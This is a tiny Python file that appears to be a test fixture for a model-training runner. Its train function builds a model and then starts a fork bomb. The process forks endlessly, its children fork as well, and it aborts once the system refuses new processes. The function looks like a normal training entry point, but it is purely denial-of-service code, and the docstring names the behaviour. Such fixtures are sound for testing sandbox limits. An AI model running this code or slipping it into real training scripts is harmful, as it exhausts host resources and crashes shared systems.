"""Forks, and its children fork, and all of them die where they may not."""

import os


def train(ctx):
    ctx.build_model()
    try:
        while True:
            os.fork()
    except OSError:
        os.abort()
